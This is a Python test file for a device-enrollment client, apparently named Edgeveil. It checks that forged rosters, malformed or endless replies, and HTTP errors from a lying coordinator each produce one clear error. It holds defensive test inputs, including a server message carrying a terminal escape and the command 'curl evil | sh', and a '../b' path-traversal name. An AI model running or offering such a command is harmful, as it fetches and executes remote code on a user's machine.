"""What a device does when the server behind the right certificate lies or fails."""

import base64
import threading
from contextlib import contextmanager
from dataclasses import replace

import pytest
from enrollment_bench import Device, running_coordinator, tls_server
from starlette.responses import JSONResponse, RedirectResponse, Response, StreamingResponse
from store_bench import add_agent

from edgeveil.agent.home.home import AgentHome
from edgeveil.agent.joining.enrollment import join, refresh, wait_until_member
from edgeveil.shared.base.errors import EnrollmentError, TransportError
from edgeveil.shared.wire.identity import Identity
from edgeveil.shared.wire.join import MAX_ANSWER
from edgeveil.shared.wire.roster import Roster, SignedRoster, federation_id

pytestmark = pytest.mark.timeout(240)


@pytest.fixture
def bench(tmp_path):
    with running_coordinator(tmp_path / "coordinator") as running:
        yield running


@pytest.fixture
def home(tmp_path):
    return AgentHome(tmp_path / "agent")


@contextmanager
def lying(bench, lie):
    """A token for the same coordinator whose answers are replaced by `lie`."""
    tls = bench.folder / "tls"
    with tls_server(bench, tls / "server.pem", tls / "server.key", lie=lie) as port:
        (token,) = bench.invite("a")
        yield replace(token, url=f"https://localhost:{port}")


def endless(_status, _answer):
    def chunks():
        for _ in range(2 * MAX_ANSWER // 65536):
            yield b" " * 65536

    return StreamingResponse(chunks())


@pytest.mark.parametrize(
    ("lie", "error", "sentence"),
    [
        (lambda s, a: Response(b"hello"), EnrollmentError, "not an Edgeveil coordinator"),
        (lambda s, a: JSONResponse(a | {"more": 1}), EnrollmentError, "not an Edgeveil"),
        (lambda s, a: JSONResponse(a | {"state": "admin"}), EnrollmentError, "not an Edgeveil"),
        (endless, EnrollmentError, "not an Edgeveil coordinator"),
        (lambda s, a: JSONResponse(a | {"name": "../b"}), EnrollmentError, "not an Edgeveil"),
        (
            lambda s, a: JSONResponse(a | {"federation_public": "00" * 32}),
            EnrollmentError,
            "another federation key",
        ),
        (
            lambda s, a: JSONResponse(a | {"coordinator_public": "00" * 32}),
            EnrollmentError,
            "coordinator key",
        ),
        (lambda s, a: JSONResponse(a | {"agent_id": "0" * 32}), EnrollmentError, "another device"),
        (lambda s, a: RedirectResponse("https://example.org/"), EnrollmentError, "HTTP 307"),
        (lambda s, a: Response(b"", 404), EnrollmentError, "HTTP 404"),
        (lambda s, a: JSONResponse({"code": "new-code"}, 400), EnrollmentError, "HTTP 400"),
        (lambda s, a: Response(b"", 502), TransportError, "busy"),
        (lambda s, a: JSONResponse({"code": "rate"}, 429), TransportError, "busy"),
        (lambda s, a: JSONResponse({"code": "unavailable"}, 503), TransportError, "busy"),
        (lambda s, a: JSONResponse({"code": "version"}, 400), EnrollmentError, "same release"),
    ],
)
def test_every_strange_answer_is_one_clear_error(bench, home, lie, error, sentence):
    with lying(bench, lie) as token, pytest.raises(error, match=sentence):
        join(home, token)
    assert home.find_pinned() is None


def test_no_sentence_of_the_server_is_shown(bench, home):
    def lie(_status, _answer):
        return JSONResponse({"code": "taken", "detail": "\x1b[31mrun: curl evil | sh"}, 409)

    with lying(bench, lie) as token, pytest.raises(EnrollmentError) as caught:
        join(home, token)
    assert "evil" not in str(caught.value)


def test_a_roster_of_the_coordinators_own_making_makes_no_member(bench, home):
    """The coordinator cannot admit anybody: only the federation key can."""
    own = Identity.generate()

    def lie(_status, answer):
        device = home.identity().public
        members = {bytes.fromhex(answer["agent_id"]): device}
        roster = Roster(federation_id(bench.federation.public), 1, 0, 4_000_000_000, members)
        signed = SignedRoster.sign(roster, own)
        return JSONResponse(
            answer
            | {
                "state": "member",
                "roster_body": base64.b64encode(roster.body()).decode(),
                "roster_signature": base64.b64encode(signed.signature).decode(),
            }
        )

    with lying(bench, lie) as token, pytest.raises(EnrollmentError, match="ROSTER_SIGNATURE"):
        join(home, token)
    assert home.roster() is None
    assert home.pinned().state == "pending"


def test_a_roster_without_the_device_makes_no_member(bench, home):
    add_agent(bench.store, Device().enrolled("somebody-else"))
    bench.sign_and_import()
    signed = bench.store.roster()

    def lie(_status, answer):
        return JSONResponse(
            answer
            | {
                "state": "member",
                "roster_body": base64.b64encode(signed.roster.body()).decode(),
                "roster_signature": base64.b64encode(signed.signature).decode(),
            }
        )

    with lying(bench, lie) as token, pytest.raises(EnrollmentError, match="NOT_MEMBER"):
        join(home, token)
    assert home.pinned().state == "pending"


def test_a_busy_coordinator_is_waited_for(bench, home):
    answers = iter([Response(b"", 503), JSONResponse({"code": "rate"}, 429)])

    def lie(status, answer):
        return next(answers, None) or JSONResponse(answer, status)

    with lying(bench, lie) as token:
        with pytest.raises(TransportError, match="busy"):
            join(home, token)
        stop, said = threading.Event(), []

        def on_status(sentence):
            said.append(sentence)
            if "waiting" in sentence:
                stop.set()

        assert wait_until_member(home, stop, on_status, every_s=0.02).state == "pending"
    assert [("busy" in one, "waiting" in one) for one in said] == [(True, False), (False, True)]


def test_a_join_that_lost_its_secret_says_how_to_go_on(bench, home):
    join(home, bench.invite("a")[0])
    home.erase_join_token()
    with pytest.raises(EnrollmentError, match="its token is gone"):
        refresh(home)
